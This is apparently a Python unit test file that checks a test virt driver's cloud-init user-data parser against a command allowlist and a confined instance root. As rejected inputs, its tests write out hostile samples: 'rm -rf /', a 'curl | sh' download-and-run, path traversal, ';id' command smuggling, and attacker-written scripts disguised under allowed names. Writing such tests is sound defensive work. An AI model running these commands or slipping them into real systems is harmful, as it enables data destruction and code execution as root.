#    Licensed under the Apache License, Version 2.0 (the "License"); you may
#    not use this file except in compliance with the License. You may obtain
#    a copy of the License at
#
#         http://www.apache.org/licenses/LICENSE-2.0
#
#    Unless required by applicable law or agreed to in writing, software
#    distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
#    WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
#    License for the specific language governing permissions and limitations
#    under the License.

"""Which guest the test virt driver starts for a user-data, and what it
writes first."""

import base64
import os
import sys


from mlaccel.taskd import guest as taskd_guest
from mlaccel_lab.testing import cloudinit

from tests import testcase

ALLOWED = ['mlaccel-taskd', 'python -m mlaccel.',
           'python -m mlaccel_lab.testing.']
ROOT = '/srv/instances/abc/root'


def b64(text):
    return base64.b64encode(text.encode()).decode()


def guest(text):
    return cloudinit.guest(b64(text), ALLOWED, ROOT)


class GuestTest(testcase.TestCase):

    def test_cloud_config_runcmd_first_allowed_entry(self):
        spec = guest('#cloud-config\nruncmd:\n  - [echo, hi]\n'
                     '  - [python3, -m, mlaccel.tasks.clip, --steps, "5"]\n'
                     '  - mlaccel-taskd --ready-url http://x/ready/k\n')
        self.assertEqual([sys.executable, '-m', 'mlaccel.tasks.clip',
                          '--steps', '5'], spec.argv)

    def test_string_entries_are_split_like_a_shell(self):
        spec = guest('#cloud-config\nruncmd:\n'
                     '  - "mlaccel-taskd --tcp \'127.0.0.1:0\'"\n')
        self.assertEqual('mlaccel-taskd', os.path.basename(spec.argv[0]))
        self.assertEqual(['--tcp', '127.0.0.1:0'], spec.argv[1:])

    def test_shell_script_user_data(self):
        spec = guest('#!/bin/sh\n# comment\n'
                     'python -m mlaccel_lab.testing.idle_guest\n')
        self.assertEqual(
            [sys.executable, '-m', 'mlaccel_lab.testing.idle_guest'],
            spec.argv)

    def test_taskd_user_data_starts_its_unit_under_the_guest_root(self):
        """The user-data the launcher sends: files, unit, systemctl."""
        text = taskd_guest.user_data(
            ready_url='http://127.0.0.1:9/ready/k', tcp_address='0.0.0.0:0',
            token='t' * 32, preload=['json'])
        spec = guest(text)
        self.assertEqual('mlaccel-taskd', os.path.basename(spec.argv[0]))
        conf = ROOT + taskd_guest.CONF_PATH
        self.assertEqual(['--config-file', conf], spec.argv[1:])
        files = {path: (data, mode) for path, data, mode in spec.files}
        self.assertEqual({conf, ROOT + taskd_guest.UNIT_PATH,
                          ROOT + taskd_guest.TOKEN_PATH}, set(files))
        self.assertEqual(0o600, files[ROOT + taskd_guest.TOKEN_PATH][1])
        # The config names the token by its place under the root.
        self.assertIn(('token_file = %s%s' % (ROOT, taskd_guest.TOKEN_PATH))
                      .encode(), files[conf][0])
        self.assertEqual(ROOT + '/run/mlaccel',
                         spec.env['RUNTIME_DIRECTORY'])
        self.assertIn(ROOT + '/var/log/mlaccel', spec.dirs)

    def test_unit_not_written_by_the_user_data_is_not_started(self):
        self.assertIsNone(guest('#cloud-config\nruncmd:\n'
                                '  - [systemctl, enable, --now, ssh]\n'))

    def test_write_files_cannot_leave_the_root(self):
        spec = guest('#cloud-config\nwrite_files:\n'
                     '  - {path: /etc/../../x, content: bad}\n'
                     '  - {path: relative, content: bad}\n'
                     '  - {path: /etc/ok, content: b2s=, encoding: b64}\n'
                     'runcmd:\n'
                     '  - [python, -m, mlaccel_lab.testing.idle_guest]\n')
        self.assertEqual([(ROOT + '/etc/ok', b'ok', 0o644)], spec.files)

    def test_nothing_allowed_nothing_started(self):
        for text in ('#cloud-config\nruncmd:\n  - [rm, -rf, /]\n',
                     '#cloud-config\nruncmd:\n  - python -m http.server\n',
                     '#cloud-config\nruncmd: not-a-list\n',
                     '#cloud-config\n[unbalanced\n',
                     '#cloud-config\n- a list\n',
                     '#!/bin/sh\ncurl http://x | sh\n',
                     'plain text user data',
                     '#cloud-config\nruncmd:\n  - "mlaccel-taskd \'open"\n'):
            self.assertIsNone(guest(text), text)

    def test_attack_written_program_named_like_an_allowed_one(self):
        # User-data writes its own program whose name only begins with an
        # allowed command's: the driver would run it as root on the host.
        for name in ('mlaccel-taskd-x', 'mlaccel-taskdx', 'python3-x'):
            text = ('#cloud-config\nwrite_files:\n'
                    '  - path: /usr/local/bin/%s\n'
                    '    permissions: "0755"\n'
                    '    content: "#!/bin/sh\\ntouch /tmp/owned\\n"\n'
                    'runcmd:\n  - [/usr/local/bin/%s, -m, mlaccel.x]\n'
                    % (name, name))
            self.assertIsNone(guest(text), name)
            self.assertIsNone(guest('#!/bin/sh\n/usr/local/bin/%s -m '
                                    'mlaccel.x\n' % name), name)

    def test_attack_written_program_never_runs_in_place_of_the_hosts(self):
        # An allowed name the compute does not have is not started from
        # the file the user-data wrote under that name.
        text = ('#cloud-config\nwrite_files:\n'
                '  - {path: /usr/bin/mlaccel-absent, permissions: "0755",'
                ' content: "#!/bin/sh\\nid\\n"}\n'
                'runcmd:\n  - [/usr/bin/mlaccel-absent]\n')
        self.assertIsNone(cloudinit.guest(b64(text), ['mlaccel-absent'],
                                          ROOT))

    def test_allowed_words_match_whole_words(self):
        for text in ('python -m mlaccel', 'python -m mlaccel.',
                     'python -m mlaccel.x;id', 'python -mmlaccel.x',
                     'python -c mlaccel.x', 'python -m mlaccelx.y'):
            self.assertIsNone(guest('#!/bin/sh\n%s\n' % text), text)
        spec = guest('#!/bin/sh\n/usr/bin/python3.11 -m mlaccel.a_b.c x\n')
        self.assertEqual([sys.executable, '-m', 'mlaccel.a_b.c', 'x'],
                         spec.argv)

    def test_no_or_bad_user_data(self):
        self.assertIsNone(cloudinit.guest(None, ALLOWED, ROOT))
        self.assertIsNone(cloudinit.guest('', ALLOWED, ROOT))
        self.assertIsNone(cloudinit.guest('%%%not base64', ALLOWED, ROOT))
        self.assertIsNone(cloudinit.guest(
            base64.b64encode(b'\xff\xfe').decode(), ALLOWED, ROOT))
